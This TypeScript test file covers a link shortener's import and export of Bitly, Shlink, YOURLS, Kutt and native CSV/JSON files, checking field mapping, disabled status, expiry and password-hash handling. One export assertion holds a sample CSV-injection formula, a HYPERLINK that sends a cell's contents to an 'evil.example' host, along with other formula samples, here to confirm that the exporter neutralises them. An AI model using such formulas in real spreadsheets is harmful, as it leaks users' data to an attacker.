import { readFileSync } from 'fs';
import { join } from 'path';
import { PassThrough } from 'stream';
import { parse } from 'csv-parse/sync';
import { exportRow, exportWriter } from './csv-export';
import { sniffFormat } from './csv-import';
import { CsvRecord, detectFormat, Format, kuttRecords, mapRecord, normaliseHeader } from './formats';
import { EXPORTED_LINKS } from './fixtures/shortlink-export';

const fixture = (name: string) => join(__dirname, 'fixtures', name);
/** A fixture read as the importer reads it (csv-import.ts: BOM, any line ends, normalised headers). */
const records = (name: string): { headers: string[]; rows: CsvRecord[] } => {
  const text = readFileSync(fixture(name), 'utf8');
  const [headers] = parse(text, { to_line: 1, bom: true }) as string[][];
  return {
    headers,
    rows: parse(text, { bom: true, columns: (h: string[]) => h.map(normaliseHeader), relax_column_count: true, skip_empty_lines: true }) as CsvRecord[],
  };
};
const keep = { keepCodes: true, keepDomains: false };
const bodies = (format: Format, name: string, options = keep) => records(name).rows.map((r) => mapRecord(format, r, options).body);

describe('export formats (fixtures follow each tool’s own exporter)', () => {
  it.each<[string, Format]>([
    ['shortlink.csv', 'shortlink'],
    ['shortlink-export.csv', 'shortlink'],
    ['bitly.csv', 'bitly'],
    ['shlink.csv', 'shlink'],
    ['yourls.csv', 'yourls'],
    ['yourls-plugin.csv', 'yourls'],
    ['kutt.json', 'kutt'],
  ])('tells %s by its header, as the importer reads the file', async (file, format) => {
    if (!file.endsWith('.json')) expect(detectFormat(records(file).headers)).toBe(format);
    await expect(sniffFormat(fixture(file))).resolves.toBe(format);
  });

  it('tells Bitly’s dashboard headings too, and nothing it does not know', () => {
    expect(detectFormat(['Title', 'Bitlink', 'Long URL', 'Tags', 'Created'])).toBe('bitly');
    expect(detectFormat(['name', 'address'])).toBeNull();
  });

  it('maps our own hand-written columns, options included; the domain only with --keep-domains', () => {
    const [first, second] = bodies('shortlink', 'shortlink.csv');
    expect(first).toEqual({
      url: 'https://example.com/spring',
      legacyCode: 'spring-sale',
      title: 'Spring sale',
      tags: ['promo', 'spring'],
      expiresAt: '2031-01-31T12:00:00Z',
      redirectType: 301,
      utm: { source: 'newsletter', campaign: 'spring' },
    });
    expect(second).toEqual({ url: 'https://example.com/summer?a=1&b=2', title: 'Summer, hot', tags: ['promo'], maxClicks: 500 });
    const withDomain = { url: 'https://example.com/x', alias: 'x-code', domain: 'go.acme.example' };
    expect(mapRecord('shortlink', withDomain, keep).body.domain).toBeUndefined();
    expect(mapRecord('shortlink', withDomain, { keepCodes: true, keepDomains: true }).body.domain).toBe('go.acme.example');
  });

  it('reads back every field links:export wrote: state, password hash, options, legacy codes; formulas unguarded', () => {
    const rows = records('shortlink-export.csv').rows;
    const mapped = rows.map((r) => mapRecord('shortlink', r, keep));
    expect(mapped.map((m) => m.note)).toEqual([undefined, undefined, undefined, undefined, undefined]);
    expect(mapped.map((m) => m.body)).toEqual(
      EXPORTED_LINKS.map((l) => {
        const body: Record<string, unknown> = {
          url: l.url,
          legacyCode: l.code,
          title: l.title,
          tags: l.tags.length ? l.tags : undefined,
          expiresAt: l.expiresAt ?? undefined,
          redirectType: l.redirectType,
          maxClicks: l.maxClicks ?? undefined,
          status: l.status,
          passwordHash: l.passwordHash ?? undefined,
          utm: l.utm ?? undefined,
          forwardQuery: l.forwardQuery,
          geoTargets: l.geoTargets ?? undefined,
          deviceTargets: l.deviceTargets ?? undefined,
          redirectRules: l.redirectRules ?? undefined,
          variants: l.variants ?? undefined,
          clicksPerIpPerMinute: l.clicksPerIpPerMinute ?? undefined,
          passwordRememberHours: l.passwordRememberHours ?? undefined,
          social: l.social ?? undefined,
          appTargets: l.appTargets ?? undefined,
        };
        return Object.fromEntries(Object.entries(body).filter(([, v]) => v !== undefined));
      }),
    );
    // In the file, the cells a spreadsheet would run are guarded; the password is there only as its hash.
    expect(rows[0].title).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
    expect(rows[0].utm_campaign).toBe("'-launch");
    expect(rows[2].title).toBe("'@SUM(1+1)");
    expect(rows[3].title).toBe("''=already quoted");
    expect(readFileSync(fixture('shortlink-export.csv'), 'utf8')).not.toContain('open sesame');
    expect(mapRecord('shortlink', rows[0], { keepCodes: true, keepDomains: true }).body.domain).toBe('old.example');
    expect(mapRecord('shortlink', rows[0], { keepCodes: false, keepDomains: false }).body.legacyCode).toBeUndefined();
  });

  it('is what links:export writes for those links', async () => {
    const out = exportWriter();
    const sink = new PassThrough();
    let text = '';
    sink.on('data', (d: Buffer) => (text += d.toString('utf8')));
    out.pipe(sink);
    for (const l of EXPORTED_LINKS) out.write(exportRow(l));
    out.end();
    await new Promise((r) => sink.on('end', r));
    expect(text).toBe(readFileSync(fixture('shortlink-export.csv'), 'utf8'));
  });

  it('creates a password-protected link of ours disabled when the export carries no hash (a key without links:write), saying why', () => {
    const [, protectedRow] = records('shortlink-export.csv').rows;
    const { body, note } = mapRecord('shortlink', { ...protectedRow, passwordhash: '' }, keep);
    expect(body).toMatchObject({ status: 'disabled' });
    expect(body.passwordHash).toBeUndefined();
    expect(note).toMatch(/no password hash.*created disabled/);
  });

  it('hands cells it cannot read to the API as they are, so the row fails rather than losing a limit', () => {
    const { body } = mapRecord('shortlink', { url: 'https://example.com/x', maxclicks: 'ten', forwardquery: 'no', geotargets: '{DE:' }, keep);
    expect(body).toEqual({ url: 'https://example.com/x', maxClicks: 'ten', forwardQuery: 'no', geoTargets: '{DE:' });
  });

  it('maps Bitly: long_url, the custom back-half before the generated one, title, tags; an archived link is created disabled', () => {
    const rows = records('bitly.csv').rows.map((r) => mapRecord('bitly', r, keep));
    expect(rows.map((r) => r.body)).toEqual([
      { url: 'https://example.com/bitly/launch', legacyCode: '3xYzAbC', title: 'Launch post', tags: ['launch', 'blog'] },
      { url: 'https://example.com/bitly/webinar?utm_source=bitly', legacyCode: 'bitly-webinar', title: 'Webinar', tags: ['webinar'] },
      { url: 'https://example.com/bitly/plain', legacyCode: '5mNoPqR', status: 'disabled' },
    ]);
    expect(rows.map((r) => r.note)).toEqual([undefined, undefined, 'archived on Bitly: created disabled']);
  });

  it('maps Shlink: longUrl, shortCode (multi-segment slugs too), title, tags joined with "|"; its domain only when asked', () => {
    const rows = records('shlink.csv').rows;
    expect(mapRecord('shlink', rows[0], keep).body).toEqual({
      url: 'https://example.com/shlink/docs',
      legacyCode: 'shlink-docs',
      title: 'A "quoted", title',
      tags: ['docs', 'blog'],
    });
    expect(mapRecord('shlink', rows[0], { keepCodes: false, keepDomains: true }).body).toMatchObject({ domain: 's.example.com' });
    expect(mapRecord('shlink', rows[0], { keepCodes: false, keepDomains: true }).body.legacyCode).toBeUndefined();
    expect(mapRecord('shlink', rows[2], keep).body.tags).toEqual(['one', 'two', 'three']);
    expect(mapRecord('shlink', rows[3], keep).body).toEqual({ url: 'https://example.com/shlink/launch', legacyCode: 'blog/2024/launch', title: 'Launch' });
  });

  it('maps YOURLS’ table: url, keyword (one letter too), title with its HTML entities decoded', () => {
    expect(bodies('yourls', 'yourls.csv')).toEqual([
      { url: 'https://example.com/yourls/home', legacyCode: 'yourls-home', title: "Home & Garden '24 – café ☺ &bogus;" },
      { url: 'https://example.com/yourls/second', legacyCode: 'yourls2', title: 'Second, with comma' },
      { url: 'https://example.com/yourls/short-keyword', legacyCode: 'a', title: 'One letter keyword' },
    ]);
  });

  it('maps the YOURLS Import-Export plugin’s CSV (source,target,hits with "/keyword/" and CRLF line ends)', () => {
    expect(readFileSync(fixture('yourls-plugin.csv'), 'utf8')).toMatch(/^source,target,hits\r\n/);
    expect(bodies('yourls', 'yourls-plugin.csv')).toEqual([
      { url: 'https://example.com/yourls/launch?tags=a,b', legacyCode: 'launch-2024' },
      { url: 'https://example.com/yourls/zz', legacyCode: 'zz' },
      { url: 'https://example.com/yourls/first', legacyCode: '1' },
    ]);
    expect(bodies('yourls', 'yourls-plugin.csv', { keepCodes: false, keepDomains: false })).toEqual([
      { url: 'https://example.com/yourls/launch?tags=a,b' },
      { url: 'https://example.com/yourls/zz' },
      { url: 'https://example.com/yourls/first' },
    ]);
  });

  it('maps Kutt’s API link list: target, address, description, expire_in; banned and password-protected links are created disabled, saying why', () => {
    const rows = kuttRecords(JSON.parse(readFileSync(fixture('kutt.json'), 'utf8'))).map((r) => mapRecord('kutt', r, keep));
    expect(rows.map((r) => r.body)).toEqual([
      { url: 'https://example.com/kutt/docs', legacyCode: 'kutt-docs', title: 'Kutt docs', expiresAt: '2031-06-01T10:00:00.000Z' },
      { url: 'https://example.com/kutt/plain', legacyCode: 'xK3pQ9', status: 'disabled' },
      { url: 'https://example.com/kutt/third', legacyCode: 'kutt-third', title: 'Third', status: 'disabled' },
    ]);
    expect(rows[0].note).toBeUndefined();
    expect(rows[1].note).toBe('banned on Kutt: created disabled');
    expect(rows[2].note).toMatch(/^password-protected on Kutt, whose link list carries no password hash: created disabled/);
    expect(() => kuttRecords({ links: [] })).toThrow(/Kutt link list/);
  });

  it('creates a link that expired at the source disabled, without the past expiry (an expiry must be ahead), saying why', () => {
    const [docs] = kuttRecords(JSON.parse(readFileSync(fixture('kutt.json'), 'utf8')));
    const later = mapRecord('kutt', docs, { ...keep, now: Date.parse('2032-01-01T00:00:00Z') });
    expect(later.body).toEqual({ url: 'https://example.com/kutt/docs', legacyCode: 'kutt-docs', title: 'Kutt docs', status: 'disabled' });
    expect(later.note).toBe('expired at the source (2031-06-01T10:00:00.000Z): created disabled');
    const ours = mapRecord('shortlink', { url: 'https://example.com/x', expiresat: '2020-01-01T00:00:00Z', status: 'active' }, keep);
    expect([ours.body.status, ours.body.expiresAt, ours.note]).toEqual([
      'disabled',
      undefined,
      'expired at the source (2020-01-01T00:00:00.000Z): created disabled',
    ]);
  });

  it('puts a title with line breaks or tabs on one line (a Shlink title may have them); an empty one is none', () => {
    expect(mapRecord('shlink', { longurl: 'https://example.com/a', title: 'Spring\r\nsale\t 2024 ' }, keep).body.title).toBe('Spring sale 2024');
    expect(mapRecord('shlink', { longurl: 'https://example.com/a', title: '\n\n' }, keep).body).toEqual({ url: 'https://example.com/a' });
  });
});
